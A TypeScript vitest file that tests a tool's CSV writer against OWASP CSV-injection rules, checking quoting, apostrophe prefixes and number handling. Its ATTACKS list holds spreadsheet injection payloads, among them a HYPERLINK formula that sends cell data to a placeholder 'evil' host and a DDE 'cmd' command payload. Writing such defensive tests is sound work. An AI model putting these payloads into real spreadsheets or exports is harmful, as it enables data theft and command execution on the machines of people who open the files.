// One CSV writer for report -f csv, results --csv and import --csv, by OWASP's CSV-injection rules:
// text a spreadsheet would run as a formula starts with an apostrophe; a cell holding a separator
// of either kind (`,` or `;`), a quote, a tab or a line end is quoted; numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { csvDocument, csvField, renderCsv } from '../../../src/report/csv.ts';
import { runImport } from '../../../src/cli/commands/import.ts';
import { labRecords } from './helpers.ts';

/**
 * Splits a CSV document the way a reader with this list separator does (Python's csv, LibreOffice,
 * Excel): a quote opens a quoted field only at the start of a field (elsewhere it is text, and
 * after a closing quote the rest is text up to the separator), and an unquoted line end ends the row.
 * Returns every field of every row.
 */
function fields(doc: string, sep: ',' | ';' | '\t'): string[] {
  const out: string[] = [];
  let cur = '';
  let state: 'start' | 'plain' | 'quoted' | 'after-quote' = 'start';
  for (let i = 0; i < doc.length; i++) {
    const ch = doc[i]!;
    if (state === 'quoted') {
      if (ch === '"' && doc[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') state = 'after-quote';
      else cur += ch;
    } else if (ch === sep || ch === '\r' || ch === '\n') {
      out.push(cur);
      cur = '';
      state = 'start';
      if (ch === '\r' && doc[i + 1] === '\n') i++;
    } else if (ch === '"' && state === 'start') state = 'quoted';
    else {
      cur += ch;
      state = 'plain';
    }
  }
  out.push(cur);
  return out;
}

/** What a spreadsheet would evaluate: a cell whose value starts with a formula trigger. */
const isFormula = (cell: string) => /^[=+\-@\t\r\n]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);

const ATTACKS = [
  '=HYPERLINK("http://evil/?"&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '-2+3',
  '+2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a;=1+1',
  'a,=1+1',
  'safe;@SUM(A1)',
  '"=1+1',
  // F9: after a `;` inside a quoted cell, a `;` reader starts a new field
  'a;=2*21;.json',
  'x;=2*21;',
  'a;@SUM(2*21);.json',
  'a; =1+1',
  'a;"=1+1"',
  'a;\t=1+1',
  'a,-2+3',
  'a\r\n=1+1',
  'a\n@SUM(1)',
  'a\t+1',
];

describe('csvField (OWASP CSV injection)', () => {
  it('prefixes formula triggers with an apostrophe', () => {
    expect(csvField('=HYPERLINK("http://evil/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil/?""&A1,""click"")"');
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('+2+3')).toBe("'+2+3");
    expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
    // a tab or line end is itself a separator: the piece after it is defused too
    expect(csvField('\t=1+1')).toBe('"\'\t\'=1+1"');
    expect(csvField('\r=1+1')).toBe('"\'\r\'=1+1"');
    expect(csvField('\n=1+1')).toBe('"\'\n\'=1+1"');
  });

  it('quotes a cell with either separator, and defuses every piece a `;` or `,` reader splits off', () => {
    expect(csvField('a;=1+1')).toBe('"a;\'=1+1"');
    expect(csvField('a,=1+1')).toBe('"a,\'=1+1"');
    expect(csvField('a;=2*21;.json')).toBe('"a;\'=2*21;.json"');
    expect(csvField('a; @SUM(1)')).toBe('"a;\' @SUM(1)"');
    expect(csvField('a;"=1"')).toBe('"a;\'""=1"""');
    expect(csvField('a\r\n=1')).toBe('"a\r\n\'=1"');
    expect(csvField('a\r\nb;c')).toBe('"a\r\nb;c"');
    expect(csvField('a"b')).toBe('"a""b"');
    expect(csvField('a\tb')).toBe('"a\tb"');
  });

  it('numbers stay numbers: negative numbers unquoted, numeric text too, non-finite empty', () => {
    expect(csvField(-2.5)).toBe('-2.5');
    expect(csvField(-1e-7)).toBe('-1e-7');
    expect(csvField('-5')).toBe('-5');
    expect(csvField('+1.5e3')).toBe('+1.5e3');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(Infinity)).toBe('');
    expect(csvField(true)).toBe('true');
    expect(csvField(undefined)).toBe('');
  });

  it('no attack string yields a formula cell, whichever list separator the spreadsheet uses', () => {
    // a row starts with the run id, as every row we write does
    const doc = csvDocument(['runId', ...ATTACKS, 'n'], [['r1', ...ATTACKS, -3]]);
    for (const sep of [',', ';', '\t'] as const) {
      const found = fields(doc, sep).filter(isFormula);
      expect(found, JSON.stringify(sep)).toEqual([]);
    }
    // with `,` the cells come back as written, apostrophes aside; the number stays a number
    const all = fields(doc, ',');
    const row = all.slice(ATTACKS.length + 2, 2 * (ATTACKS.length + 2));
    expect(row.at(-1)).toBe('-3');
    expect(row.slice(1, -1).map((c) => c.replace(/(^|\r\n|\r(?!\n)|[,;\t\n])'/g, '$1'))).toEqual(ATTACKS);
  });
});

describe('every CSV path uses the one writer', () => {
  const records = labRecords({ hostileName: 'ds;=1+1', repetitions: 1 }).map((r) => ({ ...r, axes: { ...r.axes, '@axis': '-2+3' }, tool: { ...r.tool, version: '=HYPERLINK("x")' } }));

  it('report -f csv / results --csv (renderCsv): header and values defused', () => {
    const csv = renderCsv(records);
    expect(csv.split('\r\n')[0]).toContain(",'@axis,");
    expect(csv).toContain(`"ds;'=1+1"`);
    expect(csv).toContain(",'-2+3,");
    expect(csv).toContain(`"'=HYPERLINK(""x"")"\r\n`);
  });

  it('import --csv prints the same CSV', async () => {
    let out = '';
    const code = await runImport(['x.txt'], { csv: true }, { importFile: async () => ({ format: 'fio-json', records, warnings: [] }), stdout: (t) => (out += t), stderr: () => undefined });
    expect(code).toBe(0);
    expect(out).toBe(renderCsv(records));
  });
});
